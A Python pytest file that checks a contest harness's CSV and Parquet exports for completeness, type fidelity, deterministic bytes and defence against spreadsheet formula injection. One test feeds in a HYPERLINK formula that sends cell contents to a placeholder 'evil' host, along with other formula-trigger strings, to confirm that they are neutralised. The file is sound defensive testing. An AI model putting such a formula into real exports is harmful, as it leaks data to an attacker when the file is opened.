"""Runs as tables: every number is there once, in its own type, and no cell does anything."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from harness.board import rows
from harness.export import TABLES, write_csv, write_parquet
from harness.export.spreadsheet import harmless
from harness.export.tables import Source
from harness.history import history
from harness.store import RunFolder
from harness.types import Grade
from tests.reports.examples import HOSTILE, hostile_run, ordinary_run

FORMULA = '=HYPERLINK("http://evil/?"&A1;"x")'


def sources(run: RunFolder) -> list[Source]:
    return [Source(run, past) for past in history(run).values() if past.start]


def in_csv(run: RunFolder, folder: Path) -> dict[str, list[dict[str, str]]]:
    folder.mkdir()
    write_csv(TABLES, sources(run), folder)
    found = {}
    for table in TABLES:
        with (folder / f"{table.name}.csv").open(newline="", encoding="utf-8") as file:
            found[table.name] = list(csv.DictReader(file))
    return found


def in_parquet(run: RunFolder, folder: Path) -> dict[str, list[dict[str, Any]]]:
    folder.mkdir()
    write_parquet(TABLES, sources(run), folder)
    return {t.name: parquet.read_table(folder / f"{t.name}.parquet").to_pylist() for t in TABLES}


def test_the_tables_hold_what_the_run_holds(tmp_path: Path) -> None:
    """Attempts add up to the scoreboard; every graded test is a row; what is not there is empty."""
    run = ordinary_run(tmp_path / "run")
    found = in_parquet(run, tmp_path / "out")
    ends = [past.end for past in history(run).values()]
    assert [row["points"] for row in found["attempts"]] == [e.points if e else None for e in ends]
    assert {row["points"] for row in found["attempts"] if row["status"] == "void"} == {None}
    for row in rows(run):
        for cell in row.cells:
            done = [
                line["points"]
                for line in found["attempts"]
                if (line["contestant"], line["problem"], line["status"])
                == (row.contestant.id, cell.problem.id, "done")
            ]
            assert done == [end.points or 0.0 for end in cell.done]
    grades = [record for record in run.replay() if isinstance(record, Grade)]
    assert len(found["tests"]) == sum(len(grade.tests) for grade in grades) > 0
    assert len(found["subtasks"]) == sum(len(grade.subtasks) for grade in grades)
    assert len(found["submissions"]) == len(grades)
    assert {row["layer"] for row in found["tests"]} == {"log"}


def test_both_forms_hold_the_same(tmp_path: Path) -> None:
    """What Parquet has with types, CSV has as text."""
    run = ordinary_run(tmp_path / "run")
    spelt, typed = in_csv(run, tmp_path / "csv"), in_parquet(run, tmp_path / "parquet")
    for table in TABLES:
        assert len(spelt[table.name]) == len(typed[table.name])
        for text, value in zip(spelt[table.name], typed[table.name], strict=True):
            assert list(text) == list(value) == [column.name for column in table.columns]
            for column in table.columns:
                cell, known = text[column.name], value[column.name]
                assert (cell == "") == (known is None) or known == ""
                if known not in (None, ""):
                    assert column.kind(cell.removeprefix("'")) == known


def test_the_same_run_gives_the_same_bytes(tmp_path: Path) -> None:
    """No clock is in a table."""
    run = ordinary_run(tmp_path / "run")
    for name in ("one", "two"):
        in_csv(run, tmp_path / name)
    for table in TABLES:
        one, two = (tmp_path / name / f"{table.name}.csv" for name in ("one", "two"))
        assert one.read_bytes() == two.read_bytes()


@pytest.mark.parametrize("payload", [HOSTILE, FORMULA, "+1", "-2+3", "@x", "\t=1", "  =1", "＝1"])  # noqa: RUF001
def test_no_cell_is_a_formula(tmp_path: Path, payload: str) -> None:
    """A name, a message or a checker's words that begin a formula stand behind an apostrophe."""
    found = in_csv(hostile_run(tmp_path / "run", payload), tmp_path / "out")
    cells = [cell for table in found.values() for row in table for cell in row.values()]
    assert any(payload.strip()[:20] in cell for cell in cells)
    for cell in cells:
        text = cell.lstrip(" ")
        assert not text.startswith(("=", "+", "@", "\t", "\r", "\n", "＝")), cell  # noqa: RUF001
        assert not text.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", text), cell


@given(st.text())
def test_every_text_is_harmless_and_can_be_read_again(text: str) -> None:
    """At most an apostrophe is put before a text; what no file can hold is shown as such."""
    found = harmless(text)
    assert found.removeprefix("'").replace("␀", "\0") in (text, text.removeprefix("'"))
    assert not found.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_no_separator_ends_a_text(tmp_path: Path) -> None:
    """Semicolons and quotation marks stay in the cell, whatever a country separates by."""
    run = hostile_run(tmp_path / "run", 'a;b,"c"\n=1;')
    folder = tmp_path / "out"
    in_csv(run, folder)
    raw = (folder / "attempts.csv").read_text()
    assert '"ma;b,""c""\n=1;"' in raw


def test_texts_that_are_no_utf8_are_written(tmp_path: Path) -> None:
    """Half of a surrogate pair in a message does not stop an export."""
    run = ordinary_run(tmp_path / "run")
    first = sources(run)[0]
    assert first.past.end is not None
    grade = next(iter(first.past.grades.values()))
    first.past.grades[grade.submission] = msgspec.structs.replace(grade, message="half \ud83d")
    (tmp_path / "out").mkdir()
    write_csv(TABLES, [first], tmp_path / "out")
    write_parquet(TABLES, [first], tmp_path / "out")
    assert "half ?" in (tmp_path / "out" / "submissions.csv").read_text()
    (row,) = parquet.read_table(tmp_path / "out" / "submissions.parquet").to_pylist()
    assert row["message"] == "half ?"


def test_an_empty_run_has_tables_with_their_columns(tmp_path: Path) -> None:
    """Whoever reads the files of a run that has just begun finds every column and no row."""
    write_csv(TABLES, [], tmp_path)
    write_parquet(TABLES, [], tmp_path)
    for table in TABLES:
        found = parquet.read_table(tmp_path / f"{table.name}.parquet")
        assert found.column_names == [column.name for column in table.columns]
        assert found.num_rows == 0
        assert len((tmp_path / f"{table.name}.csv").read_text().splitlines()) == 1
